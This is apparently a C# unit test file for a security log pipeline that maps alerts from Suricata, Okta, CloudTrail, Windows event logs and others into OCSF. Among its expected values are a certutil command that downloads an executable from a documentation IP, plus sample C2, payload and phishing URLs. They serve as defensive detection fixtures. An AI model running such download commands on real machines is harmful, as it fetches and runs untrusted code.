using Vigil.Pipeline.Normalize.Ocsf;

namespace Vigil.Pipeline.Tests.Normalize;

/// <summary>Every shipped mapping against a payload of its source's real shape (tests/fixtures/payloads).</summary>
public sealed class ShippedMappingTests
{
    public static TheoryData<string, int, string, int, int, int> Classifications => new()
    {
        { "msgraph_security_alert.json", 0, "msgraph_security_alert", 2004, 2, 4 },
        { "aws_guardduty_finding.jsonl", 0, "aws_guardduty", 2004, 1, 4 },
        { "crowdstrike_detection_summary.jsonl", 0, "crowdstrike_detection_summary", 2004, 1, 5 },
        { "suricata_eve.jsonl", 0, "suricata_eve", 2004, 1, 4 },
        { "suricata_eve.jsonl", 1, "suricata_eve", 4003, 1, 1 },
        { "suricata_eve.jsonl", 2, "suricata_eve", 4002, 3, 1 },
        { "suricata_eve.jsonl", 3, "suricata_eve", 4001, 2, 1 },
        { "suricata_eve.jsonl", 4, "suricata_eve", 4007, 1, 1 },
        { "okta_system_log.jsonl", 0, "okta_system_log", 3002, 1, 1 },
        { "okta_system_log.jsonl", 1, "okta_system_log", 3002, 1, 3 },
        { "okta_system_log.jsonl", 2, "okta_system_log", 3001, 9, 3 },
        { "okta_system_log.jsonl", 3, "okta_system_log", 3006, 3, 1 },
        { "okta_system_log.jsonl", 4, "okta_system_log", 6003, 3, 1 },
        { "github_audit_log.jsonl", 0, "github_audit_log", 6003, 3, 1 },
        { "github_audit_log.jsonl", 1, "github_audit_log", 6003, 2, 1 },
        { "aws_cloudtrail.jsonl", 0, "aws_cloudtrail", 6003, 1, 1 },
        { "aws_cloudtrail.jsonl", 1, "aws_cloudtrail", 3002, 1, 1 },
        { "aws_cloudtrail.jsonl", 2, "aws_cloudtrail", 6003, 2, 1 },
        { "zeek_conn.jsonl", 0, "zeek_conn", 4001, 2, 1 },
        { "zeek_conn.jsonl", 1, "zeek_conn", 4001, 5, 1 },
        { "o365_message_trace.jsonl", 0, "o365_message_trace", 4009, 4, 3 },
        { "o365_message_trace.jsonl", 1, "o365_message_trace", 4009, 4, 1 },
        { "windows_evtx.json", 0, "windows_evtx", 1007, 1, 1 },
        { "windows_evtx.json", 1, "windows_evtx", 4001, 1, 1 },
        { "windows_evtx.json", 2, "windows_evtx", 4003, 1, 1 },
        { "windows_evtx.json", 3, "windows_evtx", 3002, 1, 1 },
        { "windows_evtx.json", 4, "windows_evtx", 3002, 1, 1 },
        { "windows_nxlog.jsonl", 0, "windows_nxlog", 1007, 1, 1 },
        { "windows_nxlog.jsonl", 1, "windows_nxlog", 4001, 1, 1 },
        { "windows_nxlog.jsonl", 2, "windows_nxlog", 4003, 1, 1 },
        { "windows_nxlog.jsonl", 3, "windows_nxlog", 3002, 1, 1 },
        { "windows_nxlog.jsonl", 4, "windows_nxlog", 1007, 1, 1 },
        { "windows_nxlog.jsonl", 5, "windows_nxlog", 1008, 1, 3 },
        { "windows_nxlog.jsonl", 6, "windows_nxlog", 3003, 1, 1 },
        { "wazuh_alert.jsonl", 0, "wazuh_alert", 2004, 1, 4 },
        { "cef_event.jsonl", 0, "cef", 2004, 1, 4 },
        { "cef_event.jsonl", 1, "cef", 2004, 1, 4 },
        { "phishing_report.json", 0, "phishing_report", 2004, 1, 3 },
        { "vulnerability_finding.jsonl", 0, "vulnerability_finding", 2002, 1, 5 },
        { "sarif_result.json", 0, "sarif_result", 2007, 1, 4 },
    };

    public static TheoryData<string, int, string, string, string> KeyFields => new()
    {
        { "msgraph_security_alert.json", 0, "msgraph_security_alert", "finding_info.attacks.0.technique.uid", "T1003.001" },
        { "aws_guardduty_finding.jsonl", 0, "aws_guardduty", "evidences.0.src_endpoint.ip", "198.51.100.23" },
        { "aws_guardduty_finding.jsonl", 0, "aws_guardduty", "cloud.account.uid", "123456789012" },
        { "crowdstrike_detection_summary.jsonl", 0, "crowdstrike_detection_summary", "evidences.0.process.file.hashes.0.value", "4b2a7f93e0c1d6e5a8b9c0d1e2f3a4b5c6d7e8f90a1b2c3d4e5f6a7b8c9d0e1f" },
        { "crowdstrike_detection_summary.jsonl", 0, "crowdstrike_detection_summary", "finding_info.attacks.0.tactic.name", "Credential Access" },
        { "suricata_eve.jsonl", 0, "suricata_eve", "finding_info.analytic.uid", "2031412" },
        { "suricata_eve.jsonl", 1, "suricata_eve", "query.hostname", "cdn-update.example" },
        { "suricata_eve.jsonl", 2, "suricata_eve", "http_request.url.path", "/payload/stage2.bin" },
        { "suricata_eve.jsonl", 3, "suricata_eve", "traffic.bytes_in", "9120" },
        { "suricata_eve.jsonl", 4, "suricata_eve", "dst_endpoint.name", "OpenSSH_8.9p1" },
        { "okta_system_log.jsonl", 0, "okta_system_log", "user.email_addr", "alice@example.org" },
        { "okta_system_log.jsonl", 1, "okta_system_log", "status_id", "2" },
        { "okta_system_log.jsonl", 3, "okta_system_log", "group.name", "Domain Admins" },
        { "github_audit_log.jsonl", 0, "github_audit_log", "api.operation", "repo.change_visibility" },
        { "github_audit_log.jsonl", 0, "github_audit_log", "src_endpoint.ip", "198.51.100.77" },
        { "aws_cloudtrail.jsonl", 0, "aws_cloudtrail", "api.service.name", "iam.amazonaws.com" },
        { "aws_cloudtrail.jsonl", 1, "aws_cloudtrail", "status_id", "2" },
        { "aws_cloudtrail.jsonl", 2, "aws_cloudtrail", "resources.0.uid", "arn:aws:s3:::example-finance-exports" },
        { "zeek_conn.jsonl", 0, "zeek_conn", "src_endpoint.ip", "10.12.0.15" },
        { "zeek_conn.jsonl", 0, "zeek_conn", "duration", "88125" },
        { "o365_message_trace.jsonl", 0, "o365_message_trace", "email.smtp_from", "invoices@billing-example.net" },
        { "o365_message_trace.jsonl", 0, "o365_message_trace", "direction_id", "0" },
        { "windows_evtx.json", 0, "windows_evtx", "process.parent_process.file.path", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" },
        { "windows_evtx.json", 0, "windows_evtx", "process.pid", "6120" },
        { "windows_evtx.json", 3, "windows_evtx", "status_id", "2" },
        { "windows_evtx.json", 3, "windows_evtx", "logon_type_id", "3" },
        { "windows_nxlog.jsonl", 0, "windows_nxlog", "process.cmd_line", "certutil.exe -urlcache -split -f http://198.51.100.9/a.txt a.exe" },
        { "windows_nxlog.jsonl", 1, "windows_nxlog", "dst_endpoint.port", "80" },
        { "windows_nxlog.jsonl", 4, "windows_nxlog", "process.pid", "7712" },
        { "wazuh_alert.jsonl", 0, "wazuh_alert", "finding_info.attacks.0.technique.uid", "T1110" },
        { "cef_event.jsonl", 0, "cef", "evidences.0.dst_endpoint.hostname", "c2.malicious.example" },
        { "cef_event.jsonl", 0, "cef", "time", "1773300000000" },
        { "phishing_report.json", 0, "phishing_report", "evidences.0.email.reply_to", "contracts.desk@freemail.example" },
        { "phishing_report.json", 0, "phishing_report", "observables.1.value", "https://login-corp-example.top/auth" },
        { "phishing_report.json", 0, "phishing_report", "resources.0.uid", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" },
        { "vulnerability_finding.jsonl", 0, "vulnerability_finding", "vulnerabilities.0.cve.uid", "CVE-2024-3094" },
        { "vulnerability_finding.jsonl", 0, "vulnerability_finding", "vulnerabilities.0.affected_packages.0.fixed_in_version", "5.6.1+really5.4.5-1" },
        { "sarif_result.json", 0, "sarif_result", "vulnerabilities.0.affected_code.0.start_line", "48" },
        { "sarif_result.json", 0, "sarif_result", "vulnerabilities.0.cwe.uid", "CWE-89" },
    };

    public static TheoryData<string, int, string, string> EntityKeys => new()
    {
        { "aws_guardduty_finding.jsonl", 0, "aws_guardduty", "api_token:AKIAEXAMPLEKEY123456" },
        { "crowdstrike_detection_summary.jsonl", 0, "crowdstrike_detection_summary", "host:fin-lt-0193" },
        { "suricata_eve.jsonl", 0, "suricata_eve", "domain:cdn-update.example" },
        { "suricata_eve.jsonl", 2, "suricata_eve", "url:http://downloads.example/payload/stage2.bin" },
        { "okta_system_log.jsonl", 3, "okta_system_log", "user:bob@example.org" },
        { "github_audit_log.jsonl", 0, "github_audit_log", "repository:example-corp-eng/payments-service" },
        { "aws_cloudtrail.jsonl", 1, "aws_cloudtrail", "ip:203.0.113.14" },
        { "zeek_conn.jsonl", 1, "zeek_conn", "ip:198.51.100.66" },
        { "o365_message_trace.jsonl", 0, "o365_message_trace", "domain:billing-example.net" },
        { "windows_evtx.json", 0, "windows_evtx", "file_hash:de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c" },
        { "windows_evtx.json", 2, "windows_evtx", "domain:stage.badcdn.example" },
        { "windows_nxlog.jsonl", 3, "windows_nxlog", "user:svc_backup" },
        { "wazuh_alert.jsonl", 0, "wazuh_alert", "ip:203.0.113.87" },
        { "cef_event.jsonl", 1, "cef", "file_hash:5d41402abc4b2a76b9719d911017c592" },
        { "phishing_report.json", 0, "phishing_report", "url:https://login-corp-example.top/auth" },
        { "phishing_report.json", 0, "phishing_report", "email:contracts.desk@freemail.example" },
        { "vulnerability_finding.jsonl", 0, "vulnerability_finding", "vulnerability:CVE-2024-3094" },
        { "sarif_result.json", 0, "sarif_result", "rule:js/sql-injection" },
    };

    public static TheoryData<string, int, string, string> UnmappedFields => new()
    {
        { "aws_guardduty_finding.jsonl", 0, "aws_guardduty", "schemaVersion" },
        { "crowdstrike_detection_summary.jsonl", 0, "crowdstrike_detection_summary", "event.MD5String" },
        { "suricata_eve.jsonl", 0, "suricata_eve", "tls.version" },
        { "okta_system_log.jsonl", 0, "okta_system_log", "client.userAgent.browser" },
        { "github_audit_log.jsonl", 0, "github_audit_log", "previous_visibility" },
        { "aws_cloudtrail.jsonl", 0, "aws_cloudtrail", "requestParameters.userName" },
        { "zeek_conn.jsonl", 0, "zeek_conn", "vlan" },
        { "o365_message_trace.jsonl", 0, "o365_message_trace", "Index" },
        { "windows_nxlog.jsonl", 0, "windows_nxlog", "OriginalFileName" },
        { "wazuh_alert.jsonl", 0, "wazuh_alert", "rule.pci_dss" },
        { "cef_event.jsonl", 0, "cef", "extensions.cs1" },
        { "phishing_report.json", 0, "phishing_report", "message.authentication.spf" },
        { "vulnerability_finding.jsonl", 0, "vulnerability_finding", "scan_id" },
        { "sarif_result.json", 0, "sarif_result", "kind" },
    };

    [Theory]
    [MemberData(nameof(Classifications))]
    public void Apply_Sample_HasExpectedClassActivityAndSeverity(string file, int index, string source, int classUid, int activityId, int severityId)
    {
        var result = Payloads.Normalize(source, file, index);

        Assert.True(result.Succeeded, result.Failure);
        Assert.Equal(classUid, result.Event!.Class.ClassUid);
        Assert.Equal(activityId, result.Event.ActivityId);
        Assert.Equal(severityId, result.Event.SeverityId);
        Assert.Equal((classUid * 100L) + activityId, result.Event.TypeUid);
        Assert.False(string.IsNullOrWhiteSpace(result.Event.Title));
    }

    [Theory]
    [MemberData(nameof(KeyFields))]
    public void Apply_Sample_MapsKeyField(string file, int index, string source, string ocsfPath, string expected)
    {
        var result = Payloads.Normalize(source, file, index);

        Assert.Equal(expected, result.Event!.Ocsf.Text(ocsfPath));
    }

    [Theory]
    [MemberData(nameof(EntityKeys))]
    public void Apply_Sample_ExtractsEntity(string file, int index, string source, string entityKey)
    {
        var result = Payloads.Normalize(source, file, index);

        Assert.Contains(entityKey, result.Event!.Entities.Select(e => e.Key));
    }

    [Theory]
    [MemberData(nameof(UnmappedFields))]
    public void Apply_Sample_KeepsUnknownFieldUnderUnmapped(string file, int index, string source, string unmappedPath)
    {
        var result = Payloads.Normalize(source, file, index);

        Assert.NotNull(result.Event!.Unmapped.Text(unmappedPath));
    }

    [Theory]
    [MemberData(nameof(Classifications))]
    public void Detect_Sample_PicksItsOwnSource(string file, int index, string source, int classUid, int activityId, int severityId)
    {
        _ = (classUid, activityId, severityId);
        var item = Payloads.Events(file)[index];

        var detected = Payloads.Catalog.Detect(item.Element!.Value);

        Assert.Equal(source, detected?.Name);
    }

    [Theory]
    [MemberData(nameof(Classifications))]
    public void Apply_Sample_PassesOcsfValidationAndKeepsRaw(string file, int index, string source, int classUid, int activityId, int severityId)
    {
        _ = (classUid, activityId, severityId);
        var item = Payloads.Events(file)[index];

        var result = Payloads.Catalog.Normalize(MappingCatalogAuto, item.Element!.Value, item.Raw);

        Assert.DoesNotContain(result.Findings, f => f.Level == OcsfFindingLevel.Error);
        Assert.Equal(item.Raw, result.Event!.Raw);
        Assert.Equal(source, result.Event.Source);
        Assert.Equal(64, result.Event.Fingerprint.Value.Length);
    }

    [Fact]
    public void Load_ShippedMappings_CompileEveryFile()
    {
        var names = Payloads.Catalog.Mappings.Select(m => m.Name).ToHashSet();

        Assert.Equal(16, names.Count);
        Assert.All(names, name => Assert.True(Payloads.Catalog.TryGet(name, out var mapping) && mapping.CanAutoDetect, name));
    }

    private const string MappingCatalogAuto = Vigil.Pipeline.Normalize.MappingCatalog.Auto;
}
